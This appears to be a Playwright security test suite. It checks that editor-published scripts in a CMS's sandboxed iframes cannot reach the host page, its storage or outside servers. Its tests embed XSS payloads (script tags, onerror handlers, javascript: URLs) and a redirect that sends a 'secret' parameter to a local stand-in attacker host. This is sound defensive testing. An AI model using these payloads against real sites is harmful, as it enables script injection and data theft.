import { createSocket, type Socket } from 'node:dgram';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { type APIRequestContext, expect, type Page, test } from '@playwright/test';
import { ATTACKS, attackingBody, attackingScript } from './steps/frame-attacks';

const content = process.env.CONTENT_ORIGIN ?? 'http://localhost:4100';
/** A long page, with the content at its end: frames load when somebody comes near, so others who look in are not attacked. */
const PAGE = 'terms';

/** Somebody else's host, by TCP and by UDP. Whatever reaches it got out of the frame. */
let stranger: Server;
let caller: Socket;
let callerPort: number;
let strangerUrl: string;
const heard: string[] = [];
test.beforeAll(async () => {
  stranger = createServer((request, response) => {
    if (request.url === '/framing') {
      response.setHeader('content-type', 'text/html').end(`<iframe src="${content}/frame"></iframe>`);
      return;
    }
    heard.push(`${request.method} ${request.url}`);
    response.setHeader('access-control-allow-origin', '*').end('reached');
  });
  await new Promise<void>((resolve) => stranger.listen(0, '127.0.0.1', resolve));
  stranger.on('connection', () => heard.push('a connection'));
  caller = createSocket('udp4').on('message', () => heard.push('a packet'));
  await new Promise<void>((resolve) => caller.bind(0, '127.0.0.1', resolve));
  callerPort = caller.address().port;
  strangerUrl = `http://127.0.0.1:${(stranger.address() as AddressInfo).port}`;
});
test.beforeEach(() => void heard.splice(0));
test.afterAll(() => {
  caller.close();
  stranger.close();
});

type Written = { body: string; css: string; js: string };

/** Publishes dynamic content as an editor does; answers how to take it away again. */
async function publish(
  request: APIRequestContext,
  dynamicContent: Written,
): Promise<{ key: string; remove: () => Promise<void> }> {
  const login = await request.post(`${content}/api/users/login`, {
    data: { email: process.env.CONTENT_ADMIN_EMAIL, password: process.env.CONTENT_ADMIN_PASSWORD },
  });
  expect(login.ok()).toBe(true);
  const headers = { authorization: `JWT ${(await login.json()).token}` };
  const pages = await request.get(`${content}/api/pages?where[key][equals]=${PAGE}`, { headers });
  const [page] = (await pages.json()).docs;
  const key = `attack-${Date.now()}-${Math.floor(Math.random() * 1e6)}`;
  const made = await request.post(`${content}/api/components?locale=ru`, {
    headers,
    data: {
      ...{ key, page: page.id, type: 'dynamic-content', enabled: true, withAuth: true, withoutAuth: true },
      ...{ order: 999, orderNonAuth: 999, dynamicContent, text: `<h2>${key}</h2>`, _status: 'published' },
    },
  });
  expect(made.ok(), await made.text()).toBe(true);
  const { doc } = await made.json();
  const remove = async () => {
    expect((await request.delete(`${content}/api/components/${doc.id}`, { headers })).ok()).toBe(true);
  };
  return { key, remove };
}

/** Opens the page once it shows the content, and goes down to its frame. */
async function openWith(page: Page, key: string) {
  const holder = page.locator(`iframe[title="${key}"]`);
  await expect(async () => {
    await page.goto(`/en/${PAGE}`);
    // As a reader goes down: on a phone the footer is taller than what is loaded ahead.
    await page.evaluate(async () => {
      for (let y = 0; y < document.body.scrollHeight; y += 500) {
        scrollTo(0, y);
        await new Promise((resolve) => setTimeout(resolve, 20));
      }
    });
    await expect(holder).toBeAttached({ timeout: 15_000 });
  }).toPass({ timeout: 60_000 });
  return { holder, inside: page.frameLocator(`iframe[title="${key}"]`) };
}

test('scripts of an editor reach neither the page, nor its storage, nor any network', async ({
  page,
  request,
  baseURL,
}) => {
  const site = new URL(baseURL ?? '').origin;
  const block = await publish(request, {
    body: attackingBody(strangerUrl),
    css: '',
    js: attackingScript({ site, stranger: strangerUrl, callerPort }),
  });
  try {
    const { holder, inside } = await openWith(page, block.key);
    const asked: string[] = [];
    page.on('response', (response) => {
      const frame = response.request().frame();
      const own = response.url() === `${content}/frame` || response.url().startsWith(`${content}/frame/fonts/`);
      if (frame !== page.mainFrame() && !own) asked.push(response.url());
    });
    await expect(inside.getByText('done: done')).toBeVisible({ timeout: 30_000 });
    const results = await inside.locator('#results p').allTextContents();
    expect(results.length).toBe(ATTACKS + 1);
    expect(results.filter((line) => !line.endsWith(': refused'))).toEqual(['done: done']);
    expect(heard).toEqual([]);
    expect(asked).toEqual([]);
    // The page is where it was, and no message but a height did anything.
    expect(new URL(page.url()).pathname).toBe(`/en/${PAGE}`);
    await expect(page.getByRole('heading', { level: 1 })).toBeVisible();
    expect((await holder.boundingBox())?.height).toBeLessThanOrEqual(4000);
    // What was only begun has had its time by now.
    await page.waitForTimeout(1000);
    expect(heard).toEqual([]);
    expect(page.context().pages()).toHaveLength(1);
    await expect(holder).toHaveAttribute('sandbox', 'allow-scripts');
  } finally {
    await block.remove();
  }
});

test('a frame that leaves its document gets nowhere', async ({ page, request }) => {
  const js = `setTimeout(() => { location.href = '${strangerUrl}/left?secret=1'; }, 200);`;
  const block = await publish(request, { body: '<p>Leaving</p>', css: '', js });
  try {
    const blocked = page.waitForEvent('console', (message) => message.text().includes('frame-src'));
    await openWith(page, block.key);
    await blocked;
    // Chromium opens a connection before it asks the policy, and closes it without a word; no request is ever sent.
    expect(heard.filter((one) => one !== 'a connection')).toEqual([]);
    expect(new URL(page.url()).pathname).toBe(`/en/${PAGE}`);
  } finally {
    await block.remove();
  }
});

test('a fair height is granted, and a click leads inside the site and nowhere else', async ({ page, request }) => {
  const body = `<div class="box"><a href="/games">Games</a> <a href="${strangerUrl}/link">Away</a> <button>Grow</button></div>`;
  const js = `
    const box = document.querySelector('.box');
    document.querySelector('button').onclick = () => {
      box.style.height = '555px';
      kozyr.navigate('//stranger.example/x');
      kozyr.navigate('javascript:alert(1)');
    };`;
  const block = await publish(request, { body, css: '.box { height: 321px } a { color: rgb(1, 2, 3) }', js });
  try {
    const { holder, inside } = await openWith(page, block.key);
    const height = () => holder.boundingBox().then((box) => box?.height);
    await expect.poll(height).toBe(321);
    await expect(inside.getByRole('link', { name: 'Games' })).toHaveCSS('color', 'rgb(1, 2, 3)');
    expect(await inside.locator('html').getAttribute('lang')).toBe('en');
    await inside.getByRole('button', { name: 'Grow' }).click();
    await expect.poll(height).toBe(555);
    await inside.getByRole('link', { name: 'Away' }).click();
    expect(new URL(page.url()).pathname).toBe(`/en/${PAGE}`);
    await inside.getByRole('link', { name: 'Games' }).click();
    await page.waitForURL('**/en/games');
    expect(heard).toEqual([]);
  } finally {
    await block.remove();
  }
});

test('a frame that comes late and high moves nothing that is read below it', async ({ page, request }) => {
  await page.setViewportSize({ width: 1280, height: 400 });
  const block = await publish(request, {
    body: '<div class="box"></div>',
    css: '.box { height: 900px }',
    js: 'void 0;',
  });
  let release: (() => void) | undefined;
  const held = new Promise<void>((resolve) => {
    release = resolve;
  });
  try {
    await page.route(`${content}/frame`, async (route) => {
      await held;
      await route.continue();
    });
    const { holder } = await openWith(page, block.key);
    const footer = page.getByRole('contentinfo');
    const top = () => footer.evaluate((element) => Math.round(element.getBoundingClientRect().top));
    const before = await top();
    expect(before, 'the frame stands above what is seen').toBeLessThan(0);
    release?.();
    await expect.poll(async () => (await holder.boundingBox())?.height).toBe(900);
    await expect.poll(async () => Math.abs((await top()) - before)).toBeLessThanOrEqual(1);
  } finally {
    release?.();
    await block.remove();
  }
});

test('without scripts the body stands in the page, cleaned, and its styles stay in their box', async ({
  page,
  request,
}) => {
  const body =
    '<div class="ball" onclick="x()"><script>document.title = "taken"</script><img src="x" onerror="document.title = \'taken\'">Kept <a href="javascript:document.title=1">link</a></div>';
  const css = `@import url(${strangerUrl}/import.css); h1 { display: none } body { background: rgb(1, 1, 1) }
    .ball { color: rgb(250, 240, 230); position: fixed; inset: 0; background-image: url(${strangerUrl}/css.png) }`;
  const block = await publish(request, { body, css, js: '' });
  try {
    const box = page.locator(`[data-dynamic="${block.key}"]`);
    await expect(async () => {
      await page.goto(`/en/${PAGE}`);
      await expect(box).toBeVisible({ timeout: 3000 });
    }).toPass({ timeout: 60_000 });
    await expect(box.locator('.ball')).toHaveCSS('color', 'rgb(250, 240, 230)');
    await expect(box.locator('.ball')).toHaveCSS('position', 'static');
    await expect(page.locator('body')).not.toHaveCSS('background-color', 'rgb(1, 1, 1)');
    await expect(page.getByRole('heading', { level: 1 })).toBeVisible();
    expect(await page.title()).not.toContain('taken');
    expect(await box.innerHTML()).not.toMatch(/script|onerror|onclick/);
    expect(heard).toEqual([]);
  } finally {
    await block.remove();
  }
});

test('the host of frames is shown to this site alone', async ({ page, request }) => {
  const answer = await request.get(`${content}/frame`);
  expect(answer.headers()['content-security-policy']).toContain('sandbox allow-scripts');
  const refused = page.waitForEvent('console', (message) => message.text().includes('frame-ancestors'));
  await page.goto(`${strangerUrl}/framing`);
  await refused;
});
